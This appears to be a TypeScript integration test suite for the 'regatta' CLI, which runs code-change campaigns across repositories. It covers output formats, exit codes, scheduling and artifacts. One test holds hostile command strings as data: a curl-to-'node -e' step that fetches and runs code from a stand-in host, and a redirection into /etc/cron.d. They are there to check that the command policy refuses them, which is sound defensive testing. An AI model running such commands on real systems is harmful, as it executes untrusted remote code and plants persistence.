/** The `regatta` CLI as a user runs it: human output, --json for scripts, and exit codes that mean something. */
import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { stringify } from 'yaml';
import { createControlActivities } from '../activities/control';
import type { CampaignListing, CampaignProgress } from '../src/client';
import type { ArtifactRef } from '../src/contracts';
import { localForgeRoot } from '../src/forges';
import { LocalForge } from '../src/forges/local';
import { loadConfig } from '../src/config';
import { eventually } from './support/eventually';
import { realExecutionActivities, startHarness, type RegattaHarness } from './support/harness';
import { scriptedExecution, type ScriptedOutcome } from './support/scripted-execution';
import { fixtureRepo, readStackInfo } from './support/stack';

const root = path.resolve(__dirname, '..');
let harness: RegattaHarness;
let holdMs = 0;
/** What the scripted execution does for one repository of one campaign; anything else holds for holdMs and changes README.md. */
const scripted = new Map<string, ScriptedOutcome>();

beforeAll(async () => {
  harness = await startHarness({
    controlActivities: createControlActivities({}),
    executionActivities: scriptedExecution((spec) => scripted.get(`${spec.campaignId} ${spec.repo.name}`) ?? { holdMs })
      .activities,
  });
});
afterAll(async () => harness?.shutdown());

interface CliResult {
  code: number;
  stdout: string;
  stderr: string;
}

function regatta(...args: string[]): Promise<CliResult> {
  return regattaOn(harness, ...args);
}

/** The CLI pointed at the task queues of `on`'s workers. */
function regattaOn(on: RegattaHarness, ...args: string[]): Promise<CliResult> {
  const env = {
    ...process.env,
    REGATTA_CONTROL_QUEUE: on.queues.control,
    REGATTA_EXECUTION_QUEUE: on.queues.execution,
  };
  return new Promise((resolve) => {
    execFile('node', [path.join(root, 'bin/regatta.js'), ...args], { cwd: root, env }, (err, stdout, stderr) => {
      resolve({ code: err ? ((err as { code?: number }).code ?? 1) : 0, stdout, stderr });
    });
  });
}

function specFile(spec: object): string {
  const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'cli-spec-')), 'campaign.yaml');
  fs.writeFileSync(file, stringify(spec));
  return file;
}

function campaignSpec(id: string, extra: object = {}) {
  const targets = readStackInfo().targets.filter((t) => t.repo !== 'acme/billing');
  return {
    id: `${id}-${harness.unique}`,
    title: 'CLI campaign',
    targets,
    steps: [{ recipe: 'command', run: 'sed -i s/oldName/newName/ README.md' }],
    ...extra,
  };
}

describe('regatta CLI', () => {
  it('campaign start --wait prints outcomes; --json gives the same for scripts; a second start finds the first', async () => {
    const spec = campaignSpec('cli-start');
    const file = specFile(spec);
    const human = await regatta('campaign', 'start', '-f', file, '--preview', '--wait');
    expect(human.code).toBe(0);
    expect(human.stdout).toMatch(
      new RegExp(`campaign ${spec.id} finished\\nREPO +STATE +REASON\\nacme/catalog +changed`),
    );

    const again = await regatta('campaign', 'start', '-f', file, '--preview', '--json');
    expect(again.code).toBe(0);
    expect(JSON.parse(again.stdout)).toMatchObject({ campaignId: spec.id, started: false });
    // Without --preview it would be another campaign under the same id: refused, not silently answered by the first.
    const notPreview = await regatta('campaign', 'start', '-f', file);
    expect(notPreview.code).toBe(4);
    expect(notPreview.stderr).toContain(`campaign "${spec.id}" already exists with a different spec`);

    const status = await regatta('campaign', 'status', spec.id);
    expect(status.stdout).toContain(`campaign ${spec.id}\nsettled   [##############################] 3/3`);
    expect(status.stdout).toMatch(
      /REPO +STATE +OWNER +RUNID +REASON\nacme\/catalog +changed +storefront +\S+ +preview: evidence collected, nothing published\n/,
    );
    const statusJson = JSON.parse((await regatta('campaign', 'status', spec.id, '--json')).stdout);
    expect(statusJson.progress.counts).toEqual({ changed: 3 });

    const runs = await regatta('runs', 'list', '--campaign', spec.id, '--state', 'changed', '--json');
    expect(JSON.parse(runs.stdout).map((r: { repo: string }) => r.repo)).toEqual([
      'acme/catalog',
      'acme/checkout',
      'acme/notifications',
    ]);
    const show = await regatta('run', 'show', `run/${spec.id}/acme/catalog`);
    expect(show.stdout).toContain(`run run/${spec.id}/acme/catalog (acme/catalog): changed`);
    expect(show.stdout).toMatch(
      new RegExp(
        `pending\\s+requested by ${os.userInfo().username}[\\s\\S]*executing[\\s\\S]*changed\\s+preview: evidence collected`,
      ),
    );
  });

  it('every run says who asked: --requested-by over the spec, else the OS user; a schedule records it for its firings', async () => {
    const named = campaignSpec('cli-requester', { preview: true, requestedBy: 'bob' });
    await regatta('campaign', 'start', '-f', specFile(named), '--requested-by', 'alice', '--wait');
    expect((await regatta('run', 'show', `run/${named.id}/acme/catalog`)).stdout).toMatch(
      /pending\s+requested by alice\n/,
    );

    const scheduleId = `cli-requester-${harness.unique}`;
    const schedule = {
      id: scheduleId,
      every: '7d',
      paused: true,
      campaign: { ...campaignSpec('unused'), id: 'weekly-requester', preview: true },
    };
    expect((await regatta('schedule', 'create', '-f', specFile(schedule), '--requested-by', 'carol')).code).toBe(0);
    await regatta('schedule', 'trigger', scheduleId);
    const firing = await eventually(
      () => harness.client.schedules.describe(scheduleId),
      (d) => d.recentFirings.length > 0,
      30_000,
    );
    const { campaignId } = await harness.client.schedules.firingResult(firing.recentFirings[0].workflowId);
    expect((await regatta('run', 'show', `run/${campaignId}/acme/catalog`)).stdout).toMatch(
      /pending\s+requested by carol\n/,
    );
    await regatta('schedule', 'delete', scheduleId);
  });

  it('every state that is not a success says why, in campaign start --wait, campaign status and runs list', async () => {
    const escape = (text: string) => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
    const hidden = 'sed -i s/a/b/ README.md && node -e "$(curl -s http://x.invalid)"';
    const denied = campaignSpec('cli-denied', { preview: true, steps: [{ recipe: 'command', run: hidden }] });
    const inline = `"node -e \\"$(curl -s http://x.invalid)\\"" runs code given with -e: "node *" allows node only with a named script file; a pattern that names -e, such as "node -e *", allows it`;
    const refusal = `builtin-commands: commands not in the allowlist: ${hidden} ("$(curl -s http://x.invalid)" is a command substitution; ${inline})`;
    const waited = await regatta('campaign', 'start', '-f', specFile(denied), '--wait');
    expect(waited.code).toBe(0);
    expect(waited.stdout).toContain(`acme/catalog        policy_denied  ${refusal}\n`);
    expect((await regatta('campaign', 'status', denied.id)).stdout).toMatch(
      new RegExp(`acme/checkout +policy_denied .* ${escape(refusal)}\n`),
    );
    expect((await regatta('runs', 'list', '--campaign', denied.id)).stdout).toMatch(
      new RegExp(`acme/notifications +policy_denied .*COMPLETED +\\S+ +${escape(refusal)}\n`),
    );
    const listed = JSON.parse((await regatta('runs', 'list', '--campaign', denied.id, '--json')).stdout);
    expect(listed.map((r: { reason: string }) => r.reason)).toEqual([refusal, refusal, refusal]);

    const evidence = campaignSpec('cli-evidence', { preview: true });
    scripted.set(`${evidence.id} acme/catalog`, { commands: ['npm ci', 'npm test > /etc/cron.d/x'] });
    scripted.set(`${evidence.id} acme/checkout`, { outcome: 'no_changes' });
    const outcomes = await regatta('campaign', 'start', '-f', specFile(evidence), '--wait');
    expect(outcomes.code).toBe(5);
    const row = (repo: string, state: string, reason: string) =>
      new RegExp(`${escape(repo)} +${state} +${escape(reason)}\n`);
    expect(outcomes.stdout).toMatch(
      row(
        'acme/catalog',
        'failed',
        'policy: scope violation: commands outside the allowlist: npm test > /etc/cron.d/x ("> /etc/cron.d/x" is a redirection outside the workspace)',
      ),
    );
    expect(outcomes.stdout).toMatch(row('acme/checkout', 'no_changes', 'nothing to change (scripted)'));
    expect(outcomes.stdout).toMatch(
      row('acme/notifications', 'changed', 'preview: evidence collected, nothing published'),
    );
  });

  it('campaign list shows campaigns newest first with their runs by state; --running keeps the running ones; --json parses', async () => {
    const finished = campaignSpec('cli-list-done', { preview: true });
    expect((await regatta('campaign', 'start', '-f', specFile(finished), '--wait')).code).toBe(0);
    const running = campaignSpec('cli-list-running', { preview: true, maxConcurrentRuns: 1 });
    for (const target of running.targets) scripted.set(`${running.id} ${target.repo}`, { holdMs: 120_000 });
    try {
      expect((await regatta('campaign', 'start', '-f', specFile(running))).code).toBe(0);
      const listed = async (...args: string[]) =>
        JSON.parse(
          (await regatta('campaign', 'list', '--limit', '200', '--json', ...args)).stdout,
        ) as CampaignListing[];
      const ids = (campaigns: CampaignListing[]) => campaigns.map((c) => c.campaignId);

      const all = await eventually(
        listed,
        (cs) =>
          cs.some((c) => c.campaignId === running.id && c.runs.total === 1) &&
          cs.some((c) => c.campaignId === finished.id && c.runs.total === 3),
      );
      expect(all.find((c) => c.campaignId === finished.id)).toMatchObject({
        status: 'COMPLETED',
        runs: { total: 3, byState: { changed: 3 } },
        closedAt: expect.any(String),
      });
      expect(all.find((c) => c.campaignId === running.id)).toMatchObject({ status: 'RUNNING', runs: { total: 1 } });
      expect(ids(all).indexOf(running.id)).toBeLessThan(ids(all).indexOf(finished.id));
      expect(all.map((c) => c.startedAt)).toEqual([...all.map((c) => c.startedAt)].sort().reverse());

      const onlyRunning = await listed('--running');
      expect(ids(onlyRunning)).toContain(running.id);
      expect(ids(onlyRunning)).not.toContain(finished.id);
      expect(onlyRunning.every((c) => c.status === 'RUNNING')).toBe(true);

      const human = await regatta('campaign', 'list', '--limit', '200');
      expect(human.stdout).toMatch(/^CAMPAIGN +STATUS +STARTED +RUNS +STATES\n/);
      expect(human.stdout).toMatch(new RegExp(`\n${finished.id} +COMPLETED +\\S+ +3 +changed=3\n`));
      expect((await regatta('campaign', 'list', '--limit', '1', '--json')).stdout).toMatch(/^\[/);
    } finally {
      await regatta('campaign', 'cancel', running.id, '--by', 'cli-test');
    }
  });

  it('campaign list refuses a bad --limit, naming the option, the value and what it expects', async () => {
    for (const value of ['ten', '0', '-5', '2.5']) {
      const bad = await regatta('campaign', 'list', '--limit', value);
      expect(bad.code).toBe(2);
      expect(bad.stderr).toContain(`--limit: got "${value}"; expected a whole number from 1 to 1000`);
      expect(bad.stdout).toBe('');
    }
  });

  it('pause stops admitting runs, resume admits them again, and cancel stops the campaign', async () => {
    // Each run holds its slot long enough for the CLI to pause the campaign while the first is in flight.
    holdMs = 30_000;
    try {
      const spec = campaignSpec('cli-steer', { maxConcurrentRuns: 1, preview: true });
      const progress = () => harness.client.campaignProgress(spec.id);
      const runIds = async () => (await harness.client.listRuns(spec.id)).map((r) => r.runId);
      expect((await regatta('campaign', 'start', '-f', specFile(spec))).stdout).toContain(
        `started campaign ${spec.id}`,
      );
      await eventually(progress, (p) => p.admitted >= 1);

      expect((await regatta('campaign', 'pause', spec.id, '--reason', 'change freeze')).stdout).toBe(
        `campaign ${spec.id} paused\n`,
      );
      const paused = JSON.parse((await regatta('campaign', 'status', spec.id, '--json')).stdout)
        .progress as CampaignProgress;
      expect(paused).toMatchObject({ paused: true, pausedReason: 'change freeze' });
      // The run in flight settles and frees its slot; while paused, no other run takes it.
      const drained = await eventually(progress, (p) => p.inFlight === 0, 120_000);
      expect(drained.admitted).toBe(paused.admitted);
      expect(drained.admitted).toBeLessThan(drained.total);
      expect(await eventually(runIds, (ids) => ids.length >= drained.admitted)).toHaveLength(drained.admitted);

      holdMs = 120_000; // the run resume admits is still in flight when the campaign is cancelled
      expect((await regatta('campaign', 'resume', spec.id, '--json')).stdout).toContain('"resume": true');
      const resumed = await eventually(
        progress,
        (p) => p.admitted === drained.admitted + 1 && p.inFlight === 1,
        60_000,
      );
      expect(resumed.paused).toBe(false);
      expect(await eventually(runIds, (ids) => ids.length === resumed.admitted)).toHaveLength(resumed.admitted);

      const cancelled = await regatta('campaign', 'cancel', spec.id, '--by', 'ops', '--reason', 'wrong targets');
      expect(cancelled.code).toBe(0);
      expect(cancelled.stdout).toContain('stopped   cancelled by ops: wrong targets');
      // The run in flight is cancelled; the target never admitted is skipped, and no run is started for it.
      const after = await progress();
      expect(after.inFlight).toBe(0);
      expect(after.counts).toEqual({
        changed: drained.admitted,
        cancelled: 1,
        skipped: after.total - resumed.admitted,
      });
      const states = await eventually(
        async () => (await harness.client.listRuns(spec.id)).map((r) => r.state),
        (s) => s.includes('cancelled'),
      );
      expect(states.sort()).toEqual(['cancelled', ...Array<string>(drained.admitted).fill('changed')]);
    } finally {
      holdMs = 0;
    }
  });

  it('exit codes say what went wrong: 2 invalid spec, 3 not found, 4 refused', async () => {
    const invalid = await regatta(
      'campaign',
      'start',
      '-f',
      specFile({ id: 'Not A Slug', title: 't', targets: [], steps: [] }),
    );
    expect(invalid.code).toBe(2);
    expect(invalid.stderr).toMatch(/error: invalid campaign spec \(.*campaign\.yaml\):\n {2}- id: got "Not A Slug"/);

    const missing = await regatta('campaign', 'status', `no-such-campaign-${harness.unique}`);
    expect(missing.code).toBe(3);
    expect(missing.stderr).toContain(`campaign "no-such-campaign-${harness.unique}" was not found`);

    const spec = campaignSpec('cli-refused', { preview: true });
    expect((await regatta('campaign', 'start', '-f', specFile(spec), '--wait')).code).toBe(0);
    const refused = await regatta('run', 'approve', `run/${spec.id}/acme/catalog`, '--by', 'alice');
    expect(refused.code).toBe(4);
    expect(refused.stderr).toContain(`run run/${spec.id}/acme/catalog is changed, not awaiting approval`);
    const notFailed = await regatta('run', 'retry-publish', `run/${spec.id}/acme/catalog`);
    expect(notFailed.code).toBe(4);
    expect(notFailed.stderr).toContain('is changed, not publish_failed');
    const badState = await regatta('runs', 'list', '--campaign', spec.id, '--state', 'done');
    expect(badState.stderr).toContain('--state: got "done"; expected one of pending,');
  });

  it('schedules: create, list, pause, trigger and delete, with human and JSON output', async () => {
    const id = `cli-schedule-${harness.unique}`;
    const file = specFile({
      id,
      every: '7d',
      paused: true,
      campaign: { ...campaignSpec('unused'), id: 'weekly-rename', preview: true },
    });
    const created = await regatta('schedule', 'create', '-f', file);
    expect(created.stdout).toContain(`schedule ${id} created`);
    const listed = JSON.parse((await regatta('schedule', 'list', '--json')).stdout);
    expect(listed.find((s: { scheduleId: string }) => s.scheduleId === id)).toMatchObject({ paused: true });
    expect((await regatta('schedule', 'list')).stdout).toMatch(new RegExp(`${id} +yes`));
    expect((await regatta('schedule', 'pause', id)).stdout).toBe(`schedule ${id}: pause done\n`);
    expect((await regatta('schedule', 'trigger', id, '--json')).stdout).toContain('"trigger": true');
    expect((await regatta('schedule', 'delete', id)).code).toBe(0);
    const gone = await regatta('schedule', 'pause', id);
    expect(gone.code).toBe(3);
    expect(gone.stderr).toContain(`schedule "${id}" was not found`);
  });

  it('artifacts list reads the manifest of a finished run, and artifacts get fetches what it lists, byte for byte', async () => {
    // Evidence a real execution stored: a sandbox ran the step and the verifier, and uploaded what it produced.
    const real = await startHarness({
      controlActivities: createControlActivities({}),
      executionActivities: realExecutionActivities(),
    });
    try {
      const catalog = readStackInfo().targets.filter((t) => t.repo === 'acme/catalog');
      const spec = {
        ...campaignSpec('cli-artifacts', { preview: true }),
        id: `cli-artifacts-${real.unique}`,
        targets: catalog,
        verify: { commands: ['npm test'] },
      };
      const waited = await regattaOn(real, 'campaign', 'start', '-f', specFile(spec), '--wait');
      expect(waited.stdout).toMatch(/acme\/catalog +changed/);
      const runId = `run/${spec.id}/acme/catalog`;

      const listed = JSON.parse((await regattaOn(real, 'artifacts', 'list', runId, '--json')).stdout) as ArtifactRef[];
      expect(listed.map((a) => a.name).sort()).toEqual([
        'events.json',
        'manifest.json',
        'patch.diff',
        'steps.log',
        'verification.json',
      ]);
      const human = (await regattaOn(real, 'artifacts', 'list', runId)).stdout;
      expect(human).toMatch(/^NAME +TYPE +SIZE +SHA256 +URI\n/);
      for (const a of listed)
        expect(human).toMatch(new RegExp(`${a.name.replace('.', '\\.')} +${a.type} +${a.size} +${a.sha256} +\\S+`));

      const byName = (name: string) => listed.find((a) => a.name === name)!;
      const manifest = JSON.parse((await regattaOn(real, 'artifacts', 'get', byName('manifest.json').uri)).stdout);
      expect(manifest).toEqual({
        runId,
        attempt: expect.any(Number),
        artifacts: listed.filter((a) => a.name !== 'manifest.json'),
      });

      const out = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'artifact-')), 'patch.diff');
      expect((await regattaOn(real, 'artifacts', 'get', byName('patch.diff').uri, '-o', out)).code).toBe(0);
      const patch = fs.readFileSync(out);
      expect(patch.length).toBe(byName('patch.diff').size);
      expect(createHash('sha256').update(patch).digest('hex')).toBe(byName('patch.diff').sha256);
      expect(patch.toString('utf8')).toMatch(
        /^-- labels come from `oldName` in src\/labels\.js\n\+- labels come from `newName` in src\/labels\.js$/m,
      );
      const verification = JSON.parse(
        (await regattaOn(real, 'artifacts', 'get', byName('verification.json').uri)).stdout,
      );
      expect(verification).toMatchObject({
        verdict: 'passed',
        commands: [expect.objectContaining({ command: 'npm test', exitCode: 0 })],
      });
    } finally {
      await real.shutdown();
    }
  }, 600_000);

  it('changes list and close act on the change requests of the configured forge', async () => {
    const target = await fixtureRepo(`fixtures/cli-changes-${harness.unique}`);
    const forge = new LocalForge(localForgeRoot(loadConfig().home));
    const opened = await forge.findOrCreateChangeRequest({
      repo: { name: target.repo, url: target.url },
      branch: 'regatta/cli-changes',
      base: 'main',
      title: 'a change',
      body: 'evidence',
      autonomy: 'supervised_pr',
      labels: [],
      reviewers: [],
      headCommit: 'a'.repeat(40),
    });
    const listed = await regatta('changes', 'list', '--repo', target.repo);
    expect(listed.stdout).toMatch(new RegExp(`${target.repo} +#${opened.number} +open +regatta/cli-changes`));
    const closed = await regatta('changes', 'close', target.repo, String(opened.number), '--json');
    expect(JSON.parse(closed.stdout)).toMatchObject({ repo: target.repo, state: 'closed' });
    expect(
      JSON.parse((await regatta('changes', 'list', '--repo', target.repo, '--state', 'open', '--json')).stdout),
    ).toEqual([]);
    expect((await regatta('changes', 'close', target.repo, 'x')).stderr).toContain(
      'number: got "x"; expected a change request number',
    );
  });

  it('dev status reports every component of the local stack', async () => {
    const status = await regatta('dev', 'status', '--json');
    const names = JSON.parse(status.stdout).components.map((c: { name: string }) => c.name);
    expect(names).toEqual(expect.arrayContaining(['docker', 'temporal', 'git-server']));
    expect((await regatta('dev', 'status')).stdout).toMatch(/COMPONENT +HEALTH +DETAIL/);
  });
});
